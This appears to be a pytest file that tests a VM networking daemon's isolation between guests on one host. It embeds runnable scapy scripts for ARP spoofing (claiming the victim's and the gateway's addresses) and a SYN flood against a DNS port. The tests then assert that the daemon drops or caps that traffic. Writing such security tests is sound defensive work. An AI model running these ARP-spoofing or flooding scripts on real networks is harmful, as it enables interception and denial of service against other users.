"""Two guests on one hostd, one of them hostile: it claims the other's address and the
gateway's with ARP, and floods the gateway's DNS-over-TCP port with SYNs. The victim's
transfer stays sha256-exact, its neighbour entry for the gateway never changes, and every
drop and refusal is counted."""

from __future__ import annotations

import hashlib
import subprocess
import sys

from tests.conftest import STARTED, stop_process

GW_MAC = "5a:94:ef:e4:0c:dd"
VICTIM_MAC = "5a:94:ef:e4:0c:ee"
ATTACKER_MAC = "5a:94:ef:e4:0c:42"

ARP_ATTACK = r"""
import sys
from scapy.all import ARP, Ether, conf, sendp
conf.verb = 0
me, victim_ip, rounds = sys.argv[1], sys.argv[2], int(sys.argv[3])
frames = [
    # gratuitous ARP for the victim's address, broadcast and unicast to the gateway
    Ether(src=me, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=me, psrc=victim_ip, pdst=victim_ip),
    Ether(src=me, dst="5a:94:ef:e4:0c:dd") / ARP(op=2, hwsrc=me, psrc=victim_ip, pdst="192.168.127.1"),
    # claims to be the gateway, broadcast and straight at the victim
    Ether(src=me, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=me, psrc="192.168.127.1", pdst="192.168.127.1"),
    Ether(src=me, dst="5a:94:ef:e4:0c:ee") / ARP(op=2, hwsrc=me, psrc="192.168.127.1", pdst=victim_ip),
]
sendp(frames * rounds, iface="eth0", inter=0.002)
print("sent", len(frames) * rounds)
"""

SYN_FLOOD = r"""
import sys
from scapy.all import IP, TCP, Ether, conf, sendp
conf.verb = 0
me, src_ip, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
frames = [
    Ether(src=me, dst="5a:94:ef:e4:0c:dd")
    / IP(src=src_ip, dst="192.168.127.1")
    / TCP(sport=10000 + i % 50000, dport=53, flags="S", seq=i)
    for i in range(count)
]
sendp(frames, iface="eth0")
print("sent", count)
"""


def gateway_neighbour(g) -> str:
    out = g.ns.run("ip", "neigh", "show", "192.168.127.1", check=False).stdout
    words = out.split()
    return words[words.index("lladdr") + 1] if "lladdr" in words else ""


def test_arp_theft_and_gateway_claims_from_a_second_guest(hostd, guest, http_server):
    h = hostd()
    victim = guest(h, mac=VICTIM_MAC)
    attacker = guest(h, mac=ATTACKER_MAC)
    assert victim.ns.run("ping", "-c", "1", "-W", "2", "192.168.127.1").returncode == 0
    assert gateway_neighbour(victim) == GW_MAC
    rounds = 1500
    attack = attacker.ns.popen(
        sys.executable,
        "-c",
        ARP_ATTACK,
        ATTACKER_MAC,
        victim.ip,
        str(rounds),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    STARTED.append(attack)
    try:
        url = f"http://192.168.127.254:{http_server.port}/blob?mib=64"
        down = victim.ns.run(
            "sh",
            "-c",
            f"curl -sS --fail --max-time 200 --limit-rate 8M '{url}' | sha256sum",
            timeout=220,
        )
        out, err = attack.communicate(timeout=120)
    finally:
        stop_process(attack)
    assert out.startswith("sent"), err
    with open(http_server.blob.path, "rb") as f:
        assert down.stdout.split()[0] == hashlib.sha256(f.read(64 << 20)).hexdigest()
    assert gateway_neighbour(victim) == GW_MAC  # the claims never reached the victim
    assert victim.ns.run("ping", "-c", "1", "-W", "2", "192.168.127.1").returncode == 0
    net = h.stats()["network"]
    assert net["arp_address_theft_dropped"] == 2 * rounds
    assert net["arp_gateway_claim_dropped"] == 2 * rounds


def test_syn_flood_to_gateway_dns_is_capped_per_port(hostd, guest):
    h = hostd("--tcp-max-half-open", "400", "--tcp-port-share", "0.5")
    victim = guest(h, mac=VICTIM_MAC)
    attacker = guest(h, mac=ATTACKER_MAC)
    # The attacker's kernel must not answer the SYN-ACKs with RST (that would free them).
    attacker.ns.run("iptables", "-A", "INPUT", "-p", "tcp", "--sport", "53", "-j", "DROP")
    flood = attacker.ns.python(SYN_FLOOD, ATTACKER_MAC, attacker.ip, "3000", timeout=180)
    assert flood.stdout.startswith("sent"), flood.stderr
    stats = h.stats()
    net = stats["network"]
    assert stats["tcp_nat"]["connections"] <= 200  # the attacker's share of 400
    assert net["tcp_half_open_port_refused"] >= 2800
    # The victim's own DNS over TCP still connects and answers.
    r = victim.ns.run(
        "dig", "+tcp", "+short", "+time=3", "+tries=1", "@192.168.127.1", "host.containers.internal"
    )
    assert r.stdout.strip() == "192.168.127.254"


def test_offload_follows_the_guests_mac_to_a_plain_port(hostd, guest, http_server, short_tmp):
    """A guest downloads through an offload link (64 KiB segments with partial checksums).
    Mid-transfer a frame with its MAC arrives on a plain link, so the switch moves the MAC
    there: every segment of the open connection that leaves by the plain link is a plain
    frame (at most 1514 bytes, full checksum). When that link closes the guest is found
    again by ARP and the download finishes sha256-exact. (The guest's vm-switch is held
    with SIGSTOP meanwhile, or its next ACK would move the MAC straight back.)"""
    import os
    import signal
    import socket
    import struct
    import time

    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import ARP, Ether

    from netferry.hostd.stack.checksum import verify_transport_v4
    from tests.conftest import wait_for

    plain = str(short_tmp / "plain.sock")
    # Port security keeps a MAC on its live port: the move is a bridging setup's.
    h = hostd("--listen", f"unix://{plain}", "--port-security", "off", offload=True)
    g = guest(h)
    url = f"http://192.168.127.254:{http_server.port}/blob?mib=64"
    curl = g.ns.popen(
        "sh",
        "-c",
        f"curl -sS --fail --max-time 200 --limit-rate 8M '{url}' | sha256sum",
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    STARTED.append(curl)
    try:
        wait_for(
            lambda: h.stats()["tcp_nat"]["bytes_to_guest"] > (4 << 20),
            60,
            "the download to be under way",
            step=0.2,
        )
        # The guest's own frames would move its MAC straight back: hold its vm-switch still.
        os.kill(g.proc.pid, signal.SIGSTOP)
        mover = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        mover.connect(plain)
        claim = bytes(
            Ether(src=VICTIM_MAC, dst="ff:ff:ff:ff:ff:ff")
            / ARP(op=1, hwsrc=VICTIM_MAC, psrc=g.ip, pdst="192.168.127.1")
        )
        mover.sendall(struct.pack("!I", len(claim)) + claim)
        mover.settimeout(0.5)
        buf = b""
        segments = []
        deadline = time.monotonic() + 15
        while len(segments) < 3 and time.monotonic() < deadline:
            try:
                data = mover.recv(1 << 20)
            except TimeoutError:
                continue
            if not data:
                break
            buf += data
            while len(buf) >= 4 and len(buf) >= 4 + struct.unpack_from("!I", buf)[0]:
                (n,) = struct.unpack_from("!I", buf)
                frame, buf = buf[4 : 4 + n], buf[4 + n :]
                assert len(frame) <= 1514, f"a {len(frame)}-byte frame on a plain port"
                pkt = Ether(frame)
                if TCP in pkt and pkt[IP].dst == g.ip:
                    raw = bytes(pkt[IP])
                    assert verify_transport_v4(raw[12:16], raw[16:20], 6, raw[20:]), "checksum"
                    segments.append(len(frame))
        mover.close()
        os.kill(g.proc.pid, signal.SIGCONT)
        assert segments, "no segment of the open connection left by the plain port"
        out, err = curl.communicate(timeout=220)
    finally:
        os.kill(g.proc.pid, signal.SIGCONT)
        stop_process(curl)
    with open(http_server.blob.path, "rb") as f:
        assert out.split()[0] == hashlib.sha256(f.read(64 << 20)).hexdigest(), err
